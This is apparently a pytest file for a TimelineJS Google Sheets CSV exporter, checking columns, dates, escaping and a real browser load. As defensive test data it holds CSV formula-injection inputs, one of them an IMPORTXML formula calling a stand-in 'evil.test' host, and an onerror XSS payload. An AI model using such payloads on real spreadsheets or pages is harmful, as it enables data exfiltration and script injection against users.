"""TimelineJS Google Sheets CSV: the template's columns, the JSON export's dates and text, and a real
load of the CSV by TimelineJS 3 (its own CSV reader, in headless Chromium)."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from timeline.builders import get_builder
from timeline.builders.timelinejs_sheet import COLUMNS, inert, sheet_csv
from timeline.cli import COMMANDS, cli
from timeline.store import load_store

REPO = Path(__file__).resolve().parents[1]
TLJS = REPO / "node_modules" / "@knight-lab" / "timelinejs"
ORIGIN = "http://timeline.test"


@pytest.fixture(autouse=True)
def commands(monkeypatch):
    monkeypatch.setitem(COMMANDS, "export", "timeline.cli.export:export")


def exported(root: Path) -> str:
    target = root / "timeline.csv"
    result = CliRunner().invoke(cli, ["export", "timelinejs-sheet", str(root / "events.yaml"), "-o", str(target), "--review", "-q"])
    assert result.exit_code == 0, result.output
    return target.read_text(encoding="utf-8")


def test_header_is_the_templates():
    template = TLJS / "src" / "template" / "my-own-timeline.csv"
    if not template.exists():
        pytest.skip("TimelineJS is not installed: run npm ci")
    with template.open(encoding="utf-8", newline="") as handle:
        assert next(csv.reader(handle)) == COLUMNS


def test_rows_title_era_events(copy_root):
    rows = list(csv.DictReader(io.StringIO(exported(copy_root("export-basic")))))
    assert [r["Type"] for r in rows[:2]] == ["title", "era"]
    assert rows[0]["Headline"] == "War and return &lt;em&gt;test&lt;/em&gt;"
    era = rows[1]
    assert [era[k] for k in ("Year", "Month", "Day", "End Year", "End Month", "End Day")] == ["1992", "", "", "1997", "12", "31"]
    slides = {r["Headline"]: r for r in rows[2:]}
    assert len(slides) == 7 and all(r["Type"] == "" for r in rows[2:])
    autumn = slides["Returns slow <small>(candidate)</small>"]
    assert [autumn[k] for k in ("Year", "Month", "End Year", "End Month", "End Day")] == ["2018", "9", "2018", "11", "30"]
    assert autumn["Display Date"] == "autumn 2018" and autumn["Group"] == "People &amp; places"
    assert "<strong>June 1997</strong>" in slides["Peace accord signed"]["Text"]


@pytest.mark.parametrize("cell, safe", [
    ("=HYPERLINK(\"http://x\")", "&#61;HYPERLINK(\"http://x\")"),
    ("+1", "&#43;1"), ("-1", "&#45;1"), ("@SUM(A1)", "&#64;SUM(A1)"), ("\tx", "&#9;x"),
    ("plain = text", "plain = text"), ("", ""),
])
def test_no_cell_starts_a_formula(cell, safe):
    assert inert(cell) == safe


def test_a_formula_in_the_store_is_text_in_the_sheet(roots):
    store = load_store(roots / "export-basic" / "events.yaml")[0]
    store.events[0].title = "=IMPORTXML(\"http://evil.test\", \"//a\")"
    rows = list(csv.DictReader(io.StringIO(sheet_csv(store))))
    assert rows[-1]["Headline"].startswith("&#61;IMPORTXML(")
    assert not any(v.startswith(("=", "+", "@")) for r in rows for k, v in r.items() if k not in ("Year", "End Year"))


def test_builder_is_registered():
    assert get_builder("timelinejs-sheet").suffix == ".csv"


def _serve(page, root: Path, body: str) -> None:
    if not (TLJS / "dist" / "js" / "timeline.js").exists():
        pytest.skip("TimelineJS is not installed: run npm ci")
    page_html = f"""<!doctype html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="/dist/css/timeline.css"><script src="/dist/js/timeline.js"></script></head>
<body><div id="tl" style="width:1100px;height:700px"></div><script>
window.tlLoaded = false;
window.timeline = new TL.Timeline("tl", {json.dumps(ORIGIN + "/timeline.csv")}, {{hash_bookmark: false, font: null}});
window.timeline.on("loaded", function () {{ window.tlLoaded = true; }});
</script></body></html>"""
    files = {"/tl.html": (page_html.encode(), "text/html"), "/timeline.csv": (body.encode(), "text/csv")}

    def handle(route):
        path = route.request.url[len(ORIGIN):].split("?")[0]
        if path in files:
            return route.fulfill(body=files[path][0], content_type=files[path][1])
        target = (TLJS / path.lstrip("/")).resolve()
        if path.startswith("/dist/") and target.is_file():
            return route.fulfill(path=str(target))
        return route.fulfill(status=404, body="")

    page.route(f"{ORIGIN}/**", handle)
    page.goto(f"{ORIGIN}/tl.html")
    page.wait_for_function("window.tlLoaded === true", timeout=20000)


@pytest.mark.browser
def test_timelinejs_reads_the_sheet(page, copy_root):
    root = copy_root("export-basic")
    _serve(page, root, exported(root))
    config = "window.timeline.config"
    assert page.evaluate(f"{config}.messages.errors") == []
    assert page.evaluate(f"{config}.events.length") == 7
    assert page.evaluate(f"{config}.eras.length") == 1
    band_end = page.evaluate(f"(() => {{ const d = {config}.eras[0].end_date.data.date_obj;"
                             " return [d.getFullYear(), d.getMonth() + 1, d.getDate()]; })()")
    assert band_end == [1997, 12, 31]
    assert page.evaluate(f"{config}.title.text.headline") == "War and return &lt;em&gt;test&lt;/em&gt;"
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert page.locator(".tl-slide").filter(has_text='<img src=x onerror="window.pwned=1"> & "title"').count() == 1
    assert page.console_errors == []
